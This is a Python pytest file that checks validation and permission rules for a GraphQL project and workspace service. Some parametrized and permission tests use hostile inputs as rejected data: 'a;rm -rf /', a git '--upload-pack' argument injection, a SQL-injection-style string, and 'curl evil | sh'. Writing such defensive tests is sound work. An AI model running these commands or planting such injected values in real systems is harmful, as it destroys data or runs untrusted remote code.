"""Projects, issues and workspace settings: validation, inheritance, permissions."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from tests.support.api import CREATE_ISSUE, Api

SAVE = """
mutation($id: ID!, $input: SaveExecutionWorkspaceInput!) {
  saveExecutionWorkspace(id: $id, input: $input) {
    __typename
    ... on ExecutionWorkspace { id name branchName cwd provisionCommand effectiveProvisionCommand
      cleanupCommand effectiveCleanupCommand runtimeConfigSource runtimeOverride
      effectiveRuntimeConfig commands { name kind command port } }
    ... on Error { message } ... on InvalidInputError { field } } }
"""
RESET = """
mutation($id: ID!) { resetExecutionWorkspaceRuntime(id: $id) {
  __typename ... on ExecutionWorkspace { runtimeConfigSource runtimeOverride
    effectiveRuntimeConfig } ... on Error { message } } }
"""
PROJECT_RUNTIME = {
    "commands": [{"name": "web", "kind": "service", "command": "serve", "port": "auto"}]
}


async def workspace_of(api: Api, repo: Path, **project_workspace: object) -> tuple[str, str]:
    project = await api.project()
    await api.project_workspace(project["id"], cwd=str(repo), **project_workspace)
    agent_id, token = await api.agent()
    issue = await api.issue(project["id"], assigneeId=agent_id)
    result = await api.checkout(issue["id"], token)
    return result["workspace"]["id"], token


async def test_identifiers_count_up_per_project(api: Api) -> None:
    pap = await api.project("PAP")
    ops = await api.project("OPS")

    issues = await asyncio.gather(*(api.issue(pap["id"], f"Issue {n}") for n in range(8)))
    other = await api.issue(ops["id"])

    assert sorted(i["identifier"] for i in issues) == [f"PAP-{n}" for n in range(1, 9)]
    assert other["identifier"] == "OPS-1"


async def test_duplicate_project_key_is_a_conflict(api: Api) -> None:
    await api.project("PAP")
    result = await api.mutate(
        'mutation { createProject(input: {key: "PAP", name: "again"}) { __typename ... on Error { message } } }'
    )
    assert result["__typename"] == "ConflictError"


@pytest.mark.parametrize("key", ["pap", "P", "PAP-1", "TOO LONG"])
async def test_bad_project_key_names_the_field(api: Api, key: str) -> None:
    result = await api.mutate(
        'mutation($k: String!) { createProject(input: {key: $k, name: "x"}) { __typename ... on InvalidInputError { field message } } }',
        {"k": key},
    )
    assert result["__typename"] == "InvalidInputError" and result["field"] == "key"


async def test_issue_links_are_checked(api: Api) -> None:
    project = await api.project()
    other = await api.project("OPS")
    foreign = await api.issue(other["id"])

    wrong_project = await api.mutate(
        CREATE_ISSUE,
        {"input": {"projectId": project["id"], "title": "x", "parentId": foreign["id"]}},
    )
    unknown = await api.mutate(
        CREATE_ISSUE,
        {
            "input": {
                "projectId": project["id"],
                "title": "x",
                "parentId": "3b7a5a3c-0000-4000-8000-000000000000",
            }
        },
    )
    not_an_id = await api.mutate(
        CREATE_ISSUE,
        {"input": {"projectId": project["id"], "title": "x", "assigneeId": "robert'); drop table"}},
    )
    no_title = await api.mutate(
        CREATE_ISSUE, {"input": {"projectId": project["id"], "title": "   "}}
    )

    assert (
        wrong_project["__typename"] == "InvalidInputError" and wrong_project["field"] == "parentId"
    )
    assert unknown["__typename"] == "NotFoundError"
    assert not_an_id["__typename"] == "InvalidInputError" and not_an_id["field"] == "assigneeId"
    assert no_title["__typename"] == "InvalidInputError" and no_title["field"] == "title"


async def test_issue_cannot_become_its_own_ancestor(api: Api) -> None:
    project = await api.project()
    parent = await api.issue(project["id"], "Parent")
    child = await api.issue(project["id"], "Child", parentId=parent["id"])

    result = await api.mutate(
        "mutation($id: ID!, $p: ID!) { updateIssue(id: $id, input: {parentId: $p}) { __typename ... on InvalidInputError { field message } } }",
        {"id": parent["id"], "p": child["id"]},
    )

    assert result["__typename"] == "InvalidInputError" and "cycle" in result["message"]


async def test_lifecycle_commands_inherit_until_set(api: Api, git_repo: Path) -> None:
    workspace_id, _ = await workspace_of(api, git_repo, cleanupCommand="make clean")

    saved = await api.ok(SAVE, {"id": workspace_id, "input": {"provisionCommand": "make deps"}})

    assert saved["provisionCommand"] == "make deps" == saved["effectiveProvisionCommand"]
    assert saved["cleanupCommand"] == "" and saved["effectiveCleanupCommand"] == "make clean"


async def test_override_and_reset_to_inherit(api: Api, git_repo: Path) -> None:
    workspace_id, _ = await workspace_of(api, git_repo, runtimeConfig=PROJECT_RUNTIME)
    override = '{"commands": [{"name": "test", "kind": "job", "command": "pytest"}]}'

    saved = await api.ok(SAVE, {"id": workspace_id, "input": {"runtimeOverride": override}})

    assert saved["runtimeConfigSource"] == "EXECUTION_WORKSPACE_OVERRIDE"
    assert [c["name"] for c in saved["commands"]] == ["test"]
    reset = await api.ok(RESET, {"id": workspace_id})
    assert reset["runtimeConfigSource"] == "PROJECT_WORKSPACE_DEFAULT"
    assert reset["runtimeOverride"] is None
    assert reset["effectiveRuntimeConfig"] == PROJECT_RUNTIME


async def test_no_runtime_config_anywhere_is_source_none(api: Api, git_repo: Path) -> None:
    workspace_id, _ = await workspace_of(api, git_repo)
    saved = await api.ok(SAVE, {"id": workspace_id, "input": {"name": "renamed"}})
    assert saved["runtimeConfigSource"] == "NONE" and saved["commands"] == []


async def test_bad_override_is_refused_and_nothing_changes(api: Api, git_repo: Path) -> None:
    workspace_id, _ = await workspace_of(api, git_repo, runtimeConfig=PROJECT_RUNTIME)
    await api.ok(SAVE, {"id": workspace_id, "input": {"name": "kept"}})

    broken = await api.mutate(
        SAVE, {"id": workspace_id, "input": {"name": "lost", "runtimeOverride": '{"commands": ['}}
    )
    wrong = await api.mutate(SAVE, {"id": workspace_id, "input": {"runtimeOverride": [1, 2]}})

    assert broken["__typename"] == "InvalidInputError" and broken["field"] == "runtimeOverride"
    assert "parse error" in broken["message"]
    assert wrong["message"] == (
        "runtimeOverride: expected a JSON object with 'commands' or 'services', got a list"
    )
    current = await api.gql(
        "query($id: ID!) { executionWorkspace(id: $id) { name runtimeConfigSource } }",
        {"id": workspace_id},
    )
    assert current["executionWorkspace"] == {
        "name": "kept",
        "runtimeConfigSource": "PROJECT_WORKSPACE_DEFAULT",
    }


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("branchName", "has space"),
        ("branchName", "-x"),
        ("branchName", "a..b"),
        ("branchName", "a;rm -rf /"),
        ("branchName", "new\nline"),
        ("branchName", "b" * 300),
        ("baseRef", "--upload-pack=touch /tmp/x"),
        ("cwd", "/etc"),
        ("cwd", "relative"),
        ("cwd", "/tmp/../etc"),
    ],
)
async def test_odd_names_and_paths_are_refused(
    api: Api, git_repo: Path, field: str, value: str
) -> None:
    workspace_id, _ = await workspace_of(api, git_repo)

    result = await api.mutate(SAVE, {"id": workspace_id, "input": {field: value}})

    assert result["__typename"] == "InvalidInputError"
    assert result["field"] == field and "expected" in result["message"]


async def test_agent_may_not_change_host_executed_commands(api: Api, git_repo: Path) -> None:
    workspace_id, token = await workspace_of(api, git_repo)

    for field, value in (
        ("provisionCommand", "curl evil | sh"),
        ("runtimeOverride", PROJECT_RUNTIME),
    ):
        result = await api.mutate(SAVE, {"id": workspace_id, "input": {field: value}}, token)
        assert result["__typename"] == "ForbiddenError", result
    renamed = await api.mutate(SAVE, {"id": workspace_id, "input": {"name": "agent's name"}}, token)
    assert renamed["name"] == "agent's name"
    current = await api.gql(
        "query($id: ID!) { executionWorkspace(id: $id) { provisionCommand runtimeOverride } }",
        {"id": workspace_id},
    )
    assert current["executionWorkspace"] == {"provisionCommand": "", "runtimeOverride": None}


async def test_agent_may_not_touch_project_settings(api: Api, git_repo: Path) -> None:
    project = await api.project()
    pw = await api.project_workspace(project["id"], cwd=str(git_repo))
    _, token = await api.agent()

    result = await api.mutate(
        'mutation($id: ID!) { updateProjectWorkspace(id: $id, input: {provisionCommand: "x"}) { __typename ... on Error { message } } }',
        {"id": pw["id"]},
        token,
    )
    created = await api.mutate(
        'mutation { createProject(input: {key: "AGT", name: "x"}) { __typename } }', token=token
    )

    assert result["__typename"] == "ForbiddenError" and created["__typename"] == "ForbiddenError"


async def test_requests_without_a_known_token_are_refused(api: Api) -> None:
    for token in ("", "wrong-token"):
        response = await api.client.post(
            "/graphql",
            json={"query": "{ projects { id } }"},
            headers={"Authorization": f"Bearer {token}"} if token else {},
        )
        assert response.status_code == 401
        assert response.json()["errors"][0]["message"] == "Missing or unknown bearer token."


async def test_agent_token_is_shown_once_and_stored_hashed(api: Api) -> None:
    from worksite.models import Agent

    agent_id, token = await api.agent()

    stored = await Agent.get(id=agent_id)
    assert token not in stored.token_hash and len(stored.token_hash) == 64
    viewer = await api.gql("{ viewer { role name agent { id } } }", token=token)
    assert viewer["viewer"] == {"role": "AGENT", "name": "coder", "agent": {"id": agent_id}}


async def test_unknown_ids_are_not_found(api: Api) -> None:
    missing = "3b7a5a3c-0000-4000-8000-000000000000"
    result = await api.mutate(SAVE, {"id": missing, "input": {"name": "x"}})
    assert result["__typename"] == "NotFoundError"
    assert (
        await api.gql("query($id: ID!) { executionWorkspace(id: $id) { id } }", {"id": missing})
    )["executionWorkspace"] is None
